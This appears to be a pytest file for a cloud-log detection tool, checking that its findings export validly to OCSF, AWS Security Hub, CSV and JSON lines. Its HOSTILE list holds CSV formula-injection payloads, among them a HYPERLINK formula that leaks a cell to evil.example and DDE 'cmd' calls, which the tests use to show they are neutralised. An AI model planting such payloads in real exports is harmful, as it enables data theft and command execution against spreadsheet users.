"""Exports: OCSF 1.7 Detection Findings validate, ASFF fits BatchImportFindings, CSV and JSON survive hostile values.

The golden findings in ``test_export_stratus.jsonl`` are the real output of ``ingest`` + ``detect``
over the Stratus Red Team capture in ../shared/data/real (invictus-ir_aws_dataset).
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from botocore.session import get_session
from botocore.validate import ParamValidator
from ocsf.v1_7_0.events import DetectionFinding

from trailsight.errors import ConfigError, TrailsightError
from trailsight.finding import (
    ApiCall,
    Evidence,
    Finding,
    NetworkInfo,
    Reason,
    TimelineEntry,
    UnusualAttribute,
)
from trailsight.findings.export import FORMATS, write_export
from trailsight.findings.export_asff import severity_label, to_asff, validate_asff
from trailsight.findings.export_csv import CSV_COLUMNS, neutralise
from trailsight.findings.export_ocsf import severity_id, to_ocsf
from trailsight.store.findings import finding_from_dict
from trailsight.text import visible

GOLDEN = Path(__file__).with_name("test_export_stratus.jsonl")
T0 = datetime(2025, 3, 4, 9, 12, 3, tzinfo=UTC)
BIG = "A" * 100_000
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\uff1dSUM(1)",
    "<script>alert(1)</script>",
    'line one\nline "two"\r\nline three',
    "comma, semicolon; pipe |",
    "nul\x00byte",
    BIG,
]


def make_finding(**changes: Any) -> Finding:
    """A complete, realistic finding (every section filled); ``changes`` override fields."""
    base = Finding(
        id="ts-0f3c9a1e",
        finding_type="PrivilegeEscalation:IAMUser/AnomalousBehavior",
        title="alice: unusual AttachUserPolicy from DigitalOcean",
        principal="arn:aws:iam::768255226778:user/alice",
        actor="arn:aws:iam::768255226778:user/alice",
        account_id="768255226778",
        identity_type="IAMUser",
        first_seen=T0,
        last_seen=T0 + timedelta(minutes=7),
        count=4,
        score=0.93,
        risk_score=88,
        severity=7.4,
        severity_label="High",
        confidence="High",
        tactic="PrivilegeEscalation",
        tactic_id="TA0004",
        technique="T1098.003",
        event_ids=["e1", "e2", "e3", "e4"],
        reasons=[
            Reason(
                detector="rare_api_for_principal",
                code="new_api_for_principal",
                score=0.97,
                message="alice has never called AttachUserPolicy",
                details={"api": "AttachUserPolicy"},
            )
        ],
        anomalous_apis=[
            ApiCall(service="iam", event_name="AttachUserPolicy", success=1, failure=1, error_codes={"AccessDenied": 1})
        ],
        unusual=[
            UnusualAttribute(
                attribute="api",
                value="AttachUserPolicy",
                unusual_for_principal=True,
                unusual_for_account=False,
                principal_usual=[Evidence(value="GetUser", count=120, days=20, frequency="frequent")],
                account_usual=[Evidence(value="AttachUserPolicy", count=2, days=2, frequency="rare")],
                principals_in_account_using=1,
            ),
            UnusualAttribute(
                attribute="asn",
                value="AS14061 DigitalOcean, LLC",
                unusual_for_principal=True,
                unusual_for_account=True,
            ),
        ],
        networks=[
            NetworkInfo(
                ip="203.0.113.9",
                ip_kind="public",
                net_class="hosting",
                asn=14061,
                as_org="DigitalOcean, LLC",
                city="Amsterdam",
                country="NL",
                events=3,
            ),
            NetworkInfo(ip="2001:db8::7", ip_kind="public", events=1),
            NetworkInfo(ip="lambda.amazonaws.com", ip_kind="aws-service", events=1),
        ],
        user_agents=["aws-cli/2.15.30 Python/3.12.6 Linux/6.5.0"],
        access_keys=["AKIAIOSFODNN7EXAMPLE"],
        session_names=["alice@example.com"],
        explanation=[
            "alice attached a policy to a user from DigitalOcean in Amsterdam.",
            "alice has never called AttachUserPolicy in 28 days of history; 1 of 41 principals have.",
        ],
        timeline=[
            TimelineEntry(
                event_id="e1",
                event_time=T0,
                event_name="AttachUserPolicy",
                service="iam",
                error_code=None,
                source_ip="203.0.113.9",
                unusual=True,
                score=0.97,
            )
        ],
        detectors={"rare_api_for_principal": 97.0, "unusual_network": 80.0},
    )
    return replace(base, **changes)


def golden() -> list[Finding]:
    """The real findings of the Stratus capture."""
    return [finding_from_dict(json.loads(line)) for line in GOLDEN.read_text().splitlines() if line]


def hostile_finding(value: str) -> Finding:
    """A finding with ``value`` in every free-text field an attacker can reach."""
    return make_finding(
        title=value,
        principal=value,
        actor=value,
        user_agents=[value],
        session_names=[value],
        explanation=[value],
        networks=[NetworkInfo(ip=value, ip_kind="unknown", as_org=value, city=value, country="NL", asn=1)],
        anomalous_apis=[ApiCall(service=value, event_name=value, success=1, failure=0)],
        unusual=[
            UnusualAttribute(attribute="user_agent", value=value, unusual_for_principal=True, unusual_for_account=True)
        ],
    )


def story_finding() -> Finding:
    """An attack story across two accounts, as trailsight.stories builds it."""
    from trailsight.finding import StoryStep

    member = make_finding()
    t = member.first_seen
    steps = [
        StoryStep(
            time=t,
            principal="arn:aws:iam::111122223333:user/alice",
            actor="arn:aws:iam::111122223333:user/alice",
            account_id="111122223333",
            network="203.0.113.7 (Example Hosting, Singapore, SG)",
            what="assumed role deployer (session s1) in account 444455556666, key ASIAEXAMPLE",
            tactic="PrivilegeEscalation",
            kind="lineage",
            event_ids=["e-assume"],
        ),
        StoryStep(
            time=t,
            principal=member.principal,
            actor=member.actor,
            account_id=member.account_id,
            network=None,
            what="made unusual calls: CreateAccessKey",
            tactic="Persistence",
            kind="finding",
            finding_id=member.id,
            score=member.score,
            event_ids=list(member.event_ids),
        ),
    ]
    return make_finding(
        id="ts-story-0123456789abcdef01234567",
        finding_type="AttackSequence:IAM/CompromisedCredentials",
        severity=9.6,
        severity_label="Critical",
        event_ids=["e-assume", *member.event_ids],
        steps=steps,
        principals=[steps[0].actor, member.actor],
        members=[member.id],
    )


def _export(findings: list[Finding], fmt: str, **kw: Any) -> str:
    stream = io.StringIO(newline="")
    assert write_export(findings, fmt, stream, **kw) == len(findings)
    return stream.getvalue()


# --------------------------------------------------------------------------- OCSF


def test_golden_findings_are_real() -> None:
    findings = golden()
    assert len(findings) >= 2
    assert any("bert-jan" in f.principal for f in findings)


@pytest.mark.parametrize("source", ["golden", "made", "story"])
def test_every_ocsf_finding_validates(source: str) -> None:
    findings = {
        "golden": golden,
        "made": lambda: [make_finding(), hostile_finding(HOSTILE[0])],
        "story": lambda: [story_finding()],
    }[source]()
    lines = _export(findings, "ocsf").splitlines()
    assert len(lines) == len(findings)
    for line, f in zip(lines, findings, strict=True):
        doc = json.loads(line)
        DetectionFinding.model_validate(doc)  # raises when invalid
        assert (doc["class_uid"], doc["category_uid"], doc["activity_id"], doc["type_uid"]) == (2004, 2, 1, 200401)
        assert doc["metadata"]["version"] == "1.7.0"
        assert doc["metadata"]["product"] == {"name": "trailsight", "vendor_name": "trailsight", "version": "0.1.0"}
        info = doc["finding_info"]
        assert info["uid"] == f.id
        assert info["types"] == [f.finding_type]
        assert [e["uid"] for e in info["related_events"]] == f.event_ids
        assert info["first_seen_time"] <= info["last_seen_time"]
        assert info["analytic"]["type_id"] == 2
        assert doc["anomaly_analyses"]
        assert doc["evidences"]
        assert doc["cloud"]["provider"] == "AWS"
        assert doc["cloud"]["account"]["uid"] == f.account_id


def test_a_story_carries_its_steps_in_ocsf_and_asff() -> None:
    story = story_finding()
    doc = to_ocsf(story)
    steps = [e for e in doc["evidences"] if e["name"].startswith("step ")]
    assert [e["name"][:7] for e in steps] == ["step 1:", "step 2:"]
    assert steps[0]["actor"]["user"]["account"]["uid"] == "111122223333"
    assert steps[0]["src_endpoint"] == {"ip": "203.0.113.7"}
    assert steps[1]["data"]["finding_uid"] == story.members[0]
    assert doc["severity_id"] == 5
    item = to_asff(story)
    assert item["Severity"]["Label"] == "CRITICAL"
    assert item["ProductFields"]["trailsight/Step01"].endswith("[PrivilegeEscalation]")
    assert item["ProductFields"]["trailsight/Principals"].split() == story.principals
    assert [r["Id"] for r in item["RelatedFindings"]] == [f"trailsight/{story.account_id}/{story.members[0]}"]
    member = to_asff(make_finding(story_id=story.id))
    assert member["RelatedFindings"][0]["Id"].endswith(story.id)
    assert _botocore_errors([item, member]) == ""


def test_ocsf_content() -> None:
    doc = to_ocsf(make_finding())
    attack = doc["finding_info"]["attacks"][0]
    assert attack["tactic"] == {"uid": "TA0004", "name": "Privilege Escalation"}
    assert attack["technique"] == {"uid": "T1098", "name": "Account Manipulation"}
    assert attack["sub_technique"] == {"uid": "T1098.003", "name": "Additional Cloud Roles"}
    assert (doc["severity_id"], doc["confidence_id"], doc["confidence_score"], doc["risk_score"]) == (4, 3, 93, 88)
    network = [e for e in doc["evidences"] if "src_endpoint" in e]
    assert network[0]["src_endpoint"] == {
        "ip": "203.0.113.9",
        "location": {"city": "Amsterdam", "country": "NL"},
        "autonomous_system": {"name": "DigitalOcean, LLC", "number": 14061},
    }
    assert network[2]["src_endpoint"] == {"svc_name": "lambda.amazonaws.com"}
    assert network[0]["data"]["net_class"] == "hosting"
    api = next(e for e in doc["evidences"] if "api" in e)
    assert api["api"]["operation"] == "AttachUserPolicy"
    assert api["api"]["service"]["name"] == "iam"
    assert api["actor"]["user"]["uid"] == "arn:aws:iam::768255226778:user/alice"
    anomaly = doc["anomaly_analyses"][0]
    assert anomaly["anomalies"][0]["observations"] == [{"value": "AttachUserPolicy"}]
    assert anomaly["baselines"][0]["observations"] == [{"value": "GetUser", "count": 120}]
    assert doc["unmapped"]["trailsight"]["geo_attribution"].startswith("IP geolocation by DB-IP")
    assert {o["value"] for o in doc["observables"] if o["type_id"] == 2} == {"203.0.113.9", "2001:db8::7"}


def test_ocsf_without_tactic_or_breakdown_uses_reasons() -> None:
    doc = to_ocsf(make_finding(tactic=None, tactic_id=None, technique=None, unusual=[], networks=[], anomalous_apis=[]))
    assert "attacks" not in doc["finding_info"]
    assert doc["anomaly_analyses"][0]["anomalies"][0]["observation_parameter"] == "new_api_for_principal"
    assert doc["evidences"] == [{"name": "principal", "actor": doc["evidences"][0]["actor"]}]


@pytest.mark.parametrize(
    ("severity", "expected"), [(0.0, 0), (2.0, 2), (3.9, 2), (4.0, 3), (6.9, 3), (7.0, 4), (8.9, 4), (9.5, 5)]
)
def test_ocsf_severity_bands(severity: float, expected: int) -> None:
    assert severity_id(severity) == expected


@pytest.mark.parametrize(
    ("status", "status_id", "name"),
    [
        ("Open", 1, "New"),
        ("Acknowledged", 2, "In Progress"),
        ("Suppressed", 3, "Suppressed"),
        ("Dismissed", 4, "Resolved"),
        ("Malicious", 99, "Malicious"),
    ],
)
def test_ocsf_status(status: str, status_id: int, name: str) -> None:
    doc = to_ocsf(make_finding(status=status))
    assert (doc["status_id"], doc["status"], doc["status_detail"]) == (status_id, name, status)


# --------------------------------------------------------------------------- ASFF

ASFF_REQUIRED: dict[str, type] = {
    "AwsAccountId": str,
    "CreatedAt": str,
    "Description": str,
    "GeneratorId": str,
    "Id": str,
    "ProductArn": str,
    "Resources": list,
    "SchemaVersion": str,
    "Severity": dict,
    "Title": str,
    "Types": list,
    "UpdatedAt": str,
}
_RFC3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")


def _botocore_errors(findings: list[dict[str, Any]]) -> str:
    shape = get_session().get_service_model("securityhub").operation_model("BatchImportFindings").input_shape
    report = ParamValidator().validate({"Findings": findings}, shape)
    return report.generate_report() if report.has_errors() else ""


@pytest.mark.parametrize("source", ["golden", "made", "story"])
def test_asff_has_required_attributes_and_fits_batch_import(source: str) -> None:
    findings = {"golden": golden, "made": lambda: [make_finding()], "story": lambda: [story_finding()]}[source]()
    items = json.loads(_export(findings, "asff", region="eu-west-1"))
    assert isinstance(items, list)
    assert len(items) == len(findings)
    assert _botocore_errors(items) == ""
    for item, f in zip(items, findings, strict=True):
        for key, kind in ASFF_REQUIRED.items():
            assert isinstance(item[key], kind), key
        assert item["SchemaVersion"] == "2018-10-08"
        acct = f.account_id
        assert item["ProductArn"] == f"arn:aws:securityhub:eu-west-1:{acct}:product/{acct}/default"
        assert item["AwsAccountId"] == acct
        assert all(_RFC3339.match(item[k]) for k in ("CreatedAt", "UpdatedAt", "FirstObservedAt", "LastObservedAt"))
        assert item["Types"][-1] == "Unusual Behaviors/User"
        assert all(t.count("/") >= 1 for t in item["Types"])
        assert item["Severity"]["Label"] in ("INFORMATIONAL", "LOW", "MEDIUM", "HIGH", "CRITICAL")
        assert 0 <= item["Severity"]["Normalized"] <= 100
        assert item["Resources"][0]["Id"] == f.principal
        assert item["FindingProviderFields"]["Severity"]["Label"] == item["Severity"]["Label"]
        assert len(item["Title"]) <= 256
        assert len(item["Description"]) <= 1024


def test_asff_content() -> None:
    item = to_asff(make_finding(), region="eu-west-1", now=T0 + timedelta(hours=1))
    assert item["Types"] == ["TTPs/Privilege Escalation", "Unusual Behaviors/User"]
    assert item["Severity"] == {"Label": "HIGH", "Normalized": 74, "Original": "7.4"}
    assert (item["Confidence"], item["Criticality"]) == (90, 88)
    assert item["UpdatedAt"] == "2025-03-04T10:12:03.000Z"
    assert item["Network"] == {"Direction": "IN", "SourceIpV4": "203.0.113.9"}
    call = item["Action"]["AwsApiCallAction"]
    assert (call["Api"], call["ServiceName"], call["CallerType"]) == ("AttachUserPolicy", "iam", "remoteIp")
    assert call["RemoteIpDetails"]["Organization"]["Asn"] == 14061
    assert [r["Type"] for r in item["Resources"]] == ["AwsIamUser", "AwsIamAccessKey"]
    assert item["ProductFields"]["trailsight/Technique"] == "T1098.003"
    assert item["ProductFields"]["trailsight/NetworkClasses"] == "hosting provider"


@pytest.mark.parametrize(
    ("tactic", "technique", "expected"),
    [
        ("Discovery", "T1580", "TTPs/Discovery"),
        ("DefenseEvasion", "T1562.008", "TTPs/Defense Evasion"),
        ("Exfiltration", "T1537", "Effects/Data Exfiltration"),
        ("Impact", "T1485", "Effects/Data Destruction"),
        ("Impact", "T1496.001", "Effects/Resource Consumption"),
    ],
)
def test_asff_types(tactic: str, technique: str, expected: str) -> None:
    assert to_asff(make_finding(tactic=tactic, tactic_id=None, technique=technique))["Types"][0] == expected


def test_asff_limits_and_batches() -> None:
    long = make_finding(title="T" * 5000, explanation=["D" * 5000], principal="arn:aws:iam::1:user/" + "u" * 2000)
    many = [replace(make_finding(), id=f"ts-{i}") for i in range(150)] + [long, hostile_finding("\r=1")]
    items = json.loads(_export(many, "asff"))
    assert len(items) == 152
    assert _botocore_errors(items[:100]) == ""
    assert _botocore_errors(items[100:]) == ""
    assert max(len(i["Title"]) for i in items) == 256
    assert max(len(i["Description"]) for i in items) == 1024
    assert items[0]["ProductArn"].startswith("arn:aws:securityhub:us-east-1:")


def test_asff_validation_catches_a_broken_finding() -> None:
    item = to_asff(make_finding())
    item["Severity"]["Normalized"] = "high"
    with pytest.raises(TrailsightError, match="BatchImportFindings"):
        validate_asff([item])


@pytest.mark.parametrize(
    ("severity", "label"), [(0.0, "INFORMATIONAL"), (1.0, "LOW"), (4.5, "MEDIUM"), (7.1, "HIGH"), (9.0, "CRITICAL")]
)
def test_asff_severity_labels(severity: float, label: str) -> None:
    assert severity_label(severity) == label


# --------------------------------------------------------------------------- CSV and JSON lines


def _read_csv(text: str) -> list[dict[str, str]]:
    csv.field_size_limit(10_000_000)
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_columns_are_stable() -> None:
    text = _export(golden(), "csv")
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert tuple(header) == CSV_COLUMNS
    rows = _read_csv(text)
    assert len(rows) == len(golden())
    assert rows[0]["event_ids"].split(" ") == golden()[0].event_ids


@pytest.mark.parametrize("value", HOSTILE, ids=lambda v: repr(v[:12]))
def test_csv_neutralises_formulas_and_round_trips(value: str) -> None:
    rows = _read_csv(_export([hostile_finding(value)], "csv"))
    assert len(rows) == 1
    row = rows[0]
    shown = visible(value)  # control characters are shown as escapes (a tab no longer starts a formula)
    expected = ("'" + shown) if shown.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) else shown
    for column in (
        "title",
        "principal",
        "actor",
        "user_agents",
        "session_names",
        "explanation",
        "source_ips",
        "cities",
    ):
        assert row[column] == expected, column
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("a=1") == "a=1"
    assert neutralise("") == ""


@pytest.mark.parametrize("value", HOSTILE, ids=lambda v: repr(v[:12]))
def test_json_lines_round_trip(value: str) -> None:
    f = hostile_finding(value)
    lines = _export([f], "jsonl").splitlines()
    assert len(lines) == 1
    assert finding_from_dict(json.loads(lines[0])).to_dict() == f.to_dict()
    ocsf = json.loads(_export([f], "ocsf"))
    assert ocsf["finding_info"]["title"] == value.strip()  # pydantic-ocsf strips surrounding whitespace
    asff = json.loads(_export([f], "asff"))[0]
    expected = value if len(value) <= 256 else value[:255] + "…"
    assert asff["Title"] == expected


def test_lone_surrogates_do_not_break_exports() -> None:
    f = hostile_finding("bad \ud800 text")
    for fmt in FORMATS:
        text = _export([f], fmt)
        text.encode("utf-8")  # every format is writable as UTF-8
    assert json.loads(_export([f], "jsonl"))["title"] == "bad \ud800 text"


def test_empty_and_unknown_format() -> None:
    assert _export([], "jsonl") == ""
    assert _export([], "ocsf") == ""
    assert json.loads(_export([], "asff")) == []
    assert _export([], "csv").strip() == ",".join(CSV_COLUMNS)
    with pytest.raises(ConfigError, match="unknown format 'xml'"):
        write_export([], "xml", io.StringIO())
